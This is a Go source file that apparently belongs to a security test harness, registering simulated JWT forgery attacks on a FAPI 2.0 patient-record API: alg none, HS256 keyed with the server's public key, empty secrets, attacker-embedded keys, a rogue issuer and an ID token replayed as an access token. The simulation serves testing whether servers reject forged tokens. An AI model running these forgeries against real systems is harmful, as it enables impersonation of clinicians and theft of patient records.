package attacker

import (
	"context"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

// A forged token says what the victim's says, and is bound to the thief's key if it is bound at all.
// Each row is one way to do without the server's signature, or to misuse one.
func forgedToken(id, variant, title, story string, reads []string, forge func(g Ground, t fapi.AccessToken, kid string, server fapi.Public) (string, error)) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story, Reads: reads, Needs: []event.Vantage{event.APILog},
		Run: func(ctx context.Context, g Ground) error {
			l, err := stolenRequest(g, event.APILog, "/Patient/")
			if err != nil {
				return err
			}
			a, err := newApp(ctx, g, noCredentials)
			if err != nil {
				return err
			}
			server, err := a.serverKey(ctx)
			if err != nil {
				return err
			}
			claims, kid, err := l.claims(a.key)
			if err != nil {
				return err
			}
			forged, err := forge(g, claims, kid, server)
			if err != nil {
				return err
			}
			_, err = a.read(ctx, l.URL, fapi.TokenResponse{AccessToken: forged, TokenType: l.scheme})
			return err
		},
	})
}

// claims are the stolen token's, rebound to a key of the thief's and with a name of their own.
func (l loot) claims(key *fapi.Key) (c fapi.AccessToken, kid string, err error) {
	t, err := fapi.ParseJWT(l.token)
	if err != nil {
		return c, "", err
	}
	if err := t.Claims(&c); err != nil {
		return c, "", err
	}
	if c.Confirmation != nil {
		c.Confirmation = &fapi.Confirmation{JKT: key.Thumbprint()}
	}
	return c, t.Header.Kid, nil
}

// serverKey is the first key the honest server publishes.
func (a *app) serverKey(ctx context.Context) (fapi.Public, error) {
	ans, err := send(a.g, get(ctx, a.meta.JWKSURI))
	if err != nil {
		return fapi.Public{}, err
	}
	keys, err := fapi.ParseJWKS(ans.body)
	if err != nil || len(keys) == 0 {
		return fapi.Public{}, err
	}
	return keys[0], nil
}

var _ = forgedToken("J-01", "alg-none", "An access token with alg none",
	"The thief writes an access token with a clinician's name in it that says it needs no signature.",
	[]string{"RFC 8725 s2.1", "FAPI 2.0 SP 5.4.1-3"},
	func(_ Ground, t fapi.AccessToken, kid string, _ fapi.Public) (string, error) {
		return fapi.ForgeUnsigned(fapi.Header{Typ: fapi.TypAccessToken, Kid: kid}, t)
	})

var _ = forgedToken("J-02", "public-key-as-secret", "An access token signed with the public key as a shared secret",
	"The thief writes an access token and signs it with HS256, for which a careless library takes the server's public key as the secret. "+
		"Everybody has the public key.",
	[]string{"RFC 8725 s2.1", "GHSA-jc38-x7x8-2xc8 (web-token/jwt)"},
	func(_ Ground, t fapi.AccessToken, kid string, server fapi.Public) (string, error) {
		return fapi.ForgeHMAC(fapi.Header{Typ: fapi.TypAccessToken, Kid: kid}, t, server)
	})

var _ = forgedToken("J-02/empty", "empty-secret", "An access token signed with an empty secret",
	"The thief writes an access token and signs it with HS256 and no secret at all: what a library is left with that was handed a key of another kind "+
		"and found no secret in it.",
	[]string{"RFC 8725 s2.1", "CVE-2026-44699 (libjwt)"},
	func(_ Ground, t fapi.AccessToken, kid string, _ fapi.Public) (string, error) {
		return fapi.ForgeHMACWith(fapi.Header{Typ: fapi.TypAccessToken, Kid: kid}, t, nil)
	})

var _ = forgedToken("J-06", "own-key", "An access token signed by the thief",
	"The thief writes an access token, signs it with his own key and shows that key in the header.",
	[]string{"RFC 8725 s3.10", "CVE-2018-0114 (node-jose)"},
	func(g Ground, t fapi.AccessToken, kid string, _ fapi.Public) (string, error) {
		key := g.Key("token")
		return fapi.Sign(fapi.Header{Typ: fapi.TypAccessToken, Kid: kid, JWK: bare(key.Public())}, t, key)
	})

var _ = forgedToken("J-07", "other-issuer", "An access token of another issuer",
	"The thief runs an authorization server of his own, and signs a token with a clinician's name in it there.",
	[]string{"RFC 8725 s3.8", "RFC 9068 s4"},
	func(g Ground, t fapi.AccessToken, _ string, _ fapi.Public) (string, error) {
		t.Issuer = "https://" + g.Target().RogueHost
		return t.Sign(g.Key("rogue"))
	})

var _ = register("J-10", Technique{
	Variant: "id-token",
	Title:   "An ID token in place of an access token",
	Story: "A clinician signed in at an app of the thief's, so he has an ID token about her, signed by the right server. He presents it to the " +
		"API as if it were an access token.",
	Reads: []string{"RFC 9068 s4", "RFC 8725 s2.8, s3.12"},
	Has:   []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		ro := newRogue(g)
		idToken, err := ro.idTokenOfVictim(ctx)
		if err != nil || idToken == "" {
			return err
		}
		_, err = send(g, withToken(get(ctx, record(g, stranger(g))), "Bearer", idToken, ""))
		return err
	},
})
